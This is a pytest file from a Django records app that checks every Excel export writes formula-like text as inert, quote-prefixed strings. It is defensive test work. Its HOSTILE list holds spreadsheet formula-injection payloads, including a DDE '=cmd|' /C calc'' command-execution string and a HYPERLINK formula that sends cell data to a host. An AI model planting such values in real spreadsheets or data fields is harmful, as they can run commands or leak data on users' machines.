"""Every spreadsheet export writes text that starts like a formula (=, +, -, @, tab, carriage
return) as inert text: hostile names typed by a secretary go through every export and come
back exactly as typed, as strings, with not one formula in any exported file."""

from __future__ import annotations

import base64
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from factories import (
    make_community,
    make_county,
    make_member,
    make_star_result,
    make_street,
    make_user,
)
from pingxing.accounts import importing as account_importing
from pingxing.accounts.services import Credentials
from pingxing.core.audit import AuditAction, audit_record
from pingxing.core.excel import RowError, append_row, bad_rows_workbook, data_uri
from pingxing.orgs.models import Organization
from pingxing.ratings.models import CadreBasePay

HOSTILE = (
    '=HYPERLINK("http://x"&A1,"点击")', "+1+1", "-2", "@SUM(1)", "\tX", "\rY", "=1+1", "=cmd|' /C calc'!A0",
)
YEAR = 2010


@pytest.fixture(autouse=True)
def _no_two_factor(settings):
    settings.REQUIRE_STAFF_2FA = False


@pytest.fixture
def hostile(db):
    """A county where every community, its secretary, its members and its accounts carry a hostile
    name, each with a published star and a base pay, and an audit entry naming each one."""
    county = make_county()
    street = make_street(parent=county, name="柯桥街道党工委")
    # The street's own name is hostile too (the pay table has a street column).
    Organization.objects.filter(pk=street.pk).update(name="-柯桥街道")
    for i, value in enumerate(HOSTILE):
        org = make_community(parent=street, name=f"社区{i}")
        # Straight to the database: the form strips leading whitespace, an old import might not have.
        Organization.objects.filter(pk=org.pk).update(name=value, secretary_name=value, code=f"{value[:1]}C{i}")
        org.refresh_from_db()
        make_member(organization=org, name=value, occupation=value, specialty=value, address=value)
        make_star_result(organization=org, year=YEAR, star=i % 6)
        CadreBasePay.objects.create(organization=org, year=YEAR, base_pay=Decimal("30000.00"))
        user = make_user(role="secretary", organization=org, username=value)
        user.display_name = value
        user.save(update_fields=["display_name"])
        audit_record(action=AuditAction.UPDATE, username=value, obj=org, organization=org,
                     changes={"name": [value, value]})
    return make_user(role="county", organization=county)


def _formulas_in_file(content: bytes) -> list[str]:
    """Every <f> (formula) element in any worksheet of the file, read from the raw XML."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<(?:\w+:)?f[\s>/]", archive.read(name).decode())
    return found


def _assert_inert(content: bytes, expected: tuple[str, ...] = HOSTILE) -> None:
    assert _formulas_in_file(content) == []
    wb = load_workbook(io.BytesIO(content))
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s" and isinstance(c.value, str)}
    missing = [v for v in expected if v not in texts]
    assert missing == []  # each hostile value reads back exactly as typed, as a string
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
            assert (cell.data_type, cell.quotePrefix) == ("s", True), cell.coordinate


EXPORTS = {
    "members": ("members:export", (), {}),
    "members in full": ("members:export", (), {"full": "on"}),
    "organizations": ("orgs:export", (), {}),
    "pay": ("ratings:pay_export", (YEAR,), {}),
    "base-pay template": ("ratings:base_pay_template", (YEAR,), {}),
    "audit": ("audit:export", (), {}),
    "accounts": ("accounts:admin_export", (), {}),
}


@pytest.mark.parametrize("export", list(EXPORTS))
def test_hostile_names_come_out_of_every_export_as_inert_text(client, hostile, export):
    name, args, query = EXPORTS[export]
    client.force_login(hostile)
    response = client.get(reverse(name, args=args), query)
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    _assert_inert(response.content)


def test_the_bad_rows_workbook_of_a_refused_import_keeps_hostile_cells_and_headers_inert():
    raw = {2 + i: {value: value, "电话": value} for i, value in enumerate(HOSTILE)}
    headers = [*HOSTILE, "电话"]
    wb = bad_rows_workbook([RowError(2 + i, "电话", "格式不对") for i in range(len(HOSTILE))],
                           headers=headers, raw_rows=raw)
    buffer = io.BytesIO()
    wb.save(buffer)
    _assert_inert(buffer.getvalue())


def test_the_initial_password_sheet_keeps_a_hostile_display_name_inert(db):
    county = make_county()
    credentials = []
    for value in HOSTILE:
        user = make_user(role="street", organization=make_street(parent=county), username=value)
        user.display_name = value
        credentials.append(Credentials(user=user, password="-Abc123456789x"))
    uri = data_uri(account_importing.credentials_workbook(credentials))
    _assert_inert(base64.b64decode(uri.split(",", 1)[1]), (*HOSTILE, "-Abc123456789x"))


def test_the_helper_leaves_numbers_and_ordinary_text_alone_also_on_write_only_sheets():
    for write_only in (False, True):
        wb = Workbook(write_only=write_only)
        ws = wb.create_sheet("表") if write_only else wb.active
        append_row(ws, [-2, Decimal("1.50"), "社区", "=1+1", None, "a=b"])
        buffer = io.BytesIO()
        wb.save(buffer)
        row = next(load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0].iter_rows())
        assert [c.value for c in row] == [-2, 1.5, "社区", "=1+1", None, "a=b"]
        assert [c.data_type for c in row[:4]] == ["n", "n", "s", "s"]
        assert (row[2].quotePrefix, row[3].quotePrefix) == (False, True)
        assert _formulas_in_file(buffer.getvalue()) == []


def test_the_rubric_results_workbook_keeps_hostile_org_codes_and_messages_inert():
    from pingxing.rubric.io import write_results

    results = [
        {"org_code": value, "year": YEAR, "star": i % 6, "levels": [{"star": 1, "status": "met"}],
         "vetoed": False, "possible_star": None, "missing_facts": [value],
         "next_star_gaps": [{"message": value}], "errors": [{"message": value}]}
        for i, value in enumerate(HOSTILE)
    ]
    _assert_inert(write_results(results, "xlsx", None))


def test_the_rubric_facts_template_has_no_formula(tmp_path):
    from pingxing.rubric.io import write_template

    write_template(tmp_path / "template.xlsx")
    _assert_inert((tmp_path / "template.xlsx").read_bytes(), expected=())


def test_core_excel_and_the_rubric_share_one_inert_rule():
    from pingxing.core import excel
    from pingxing.rubric import xlsxguard

    assert excel.inert is xlsxguard.inert and excel.append_row is xlsxguard.append_row
    assert excel.FORMULA_STARTS is xlsxguard.FORMULA_STARTS
